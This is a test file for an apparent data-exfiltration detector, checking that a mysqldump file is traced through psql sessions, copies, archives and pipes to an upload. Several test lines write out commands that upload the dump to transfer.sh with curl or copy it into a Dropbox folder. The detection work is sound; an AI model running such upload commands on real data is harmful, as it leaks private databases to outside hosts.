import { describe, expect, it } from 'vitest';
import { Desk } from '../../support/desk.ts';
import { MAC_PROGRAMS } from '../../support/mac-programs.ts';
import { PROGRAMS } from '../../support/story.ts';

const DUMP = 'Documents/ledger.sql';
/** What the session that carries another one's file shows, when it wrote a file of its own for it. */
const CARRIER = { tool: 'psql' };

/** A dump of mysqldump, then a psql session. */
function dumpedThenPsql() {
  const desk = new Desk();
  desk.dump(DUMP);
  return { desk, psql: desk.type(PROGRAMS.psql, 'psql crm') };
}

describe('a file of one tool that is handled inside the session of another one', () => {
  it('is uploaded for the chain that owns it when an upload command there names it', () => {
    const { desk, psql } = dumpedThenPsql();
    desk.story.run(psql, desk.program(PROGRAMS.curl, `curl -T ${DUMP} https://transfer.sh/`));
    expect(desk.findings()).toMatchObject([
      {
        tool: 'mysqldump',
        stage: 'upload',
        link: 'lineage',
        evidence: 'named-in-upload-command',
        severity: 'critical',
        files: [desk.at(DUMP)],
      },
      { ...CARRIER, stage: 'upload', evidence: 'piped-to-uploader' },
    ]);
  });

  it('is followed through a copy into a sync folder', () => {
    const { desk, psql } = dumpedThenPsql();
    const line = `cp ${DUMP} Dropbox/ledger.sql`;
    const cp = desk.story.run(psql, desk.program(PROGRAMS.cp, line));
    desk.story.write(cp, desk.at('Dropbox/ledger.sql'));
    expect(desk.findings()).toMatchObject([
      {
        tool: 'mysqldump',
        stage: 'upload',
        evidence: 'landed-in-sync-folder',
        files: [desk.at(DUMP), desk.at('Dropbox/ledger.sql')],
      },
      CARRIER,
    ]);
  });

  it('is followed through an archive that is uploaded from outside', () => {
    const { desk, psql } = dumpedThenPsql();
    const zip = desk.story.run(psql, desk.program(PROGRAMS.zip, `zip o.zip ${DUMP}`));
    desk.story.write(zip, desk.at('o.zip'));
    desk.type(PROGRAMS.curl, 'curl -T o.zip https://transfer.sh/');
    expect(desk.findings()).toMatchObject([{ tool: 'mysqldump', stage: 'upload' }, CARRIER]);
  });

  it('stays where it is when the other session writes something else', () => {
    const { desk, psql } = dumpedThenPsql();
    desk.story.write(psql, desk.at('Dropbox/own.csv'));
    expect(desk.findings()).toMatchObject([
      { tool: 'mysqldump', stage: 'export', files: [desk.at(DUMP)] },
      { ...CARRIER, stage: 'upload', files: [desk.at('Dropbox/own.csv')] },
    ]);
  });
});

describe('a name that is used again', () => {
  it('by a later run of the tool belongs to that run alone', () => {
    const desk = new Desk();
    desk.dump(DUMP);
    desk.story.wait(60);
    desk.dump(DUMP);
    desk.type(PROGRAMS.curl, `curl -T ${DUMP} https://transfer.sh/`);
    expect(desk.findings()).toMatchObject([{ stage: 'export' }, { stage: 'upload' }]);
  });

  it('by a writer behind a pipe belongs to the session before the pipe alone', () => {
    const desk = new Desk();
    desk.dump(DUMP);
    desk.type(PROGRAMS.psql, 'psql crm', { stdout: 7 });
    const tee = desk.type(MAC_PROGRAMS.tee, `tee ${DUMP}`, { stdin: 7 });
    desk.story.write(tee, desk.at(DUMP));
    desk.type(PROGRAMS.curl, `curl -T ${DUMP} https://transfer.sh/`);
    expect(desk.findings()).toMatchObject([
      { tool: 'mysqldump', stage: 'export' },
      { tool: 'psql', stage: 'upload' },
    ]);
  });
});
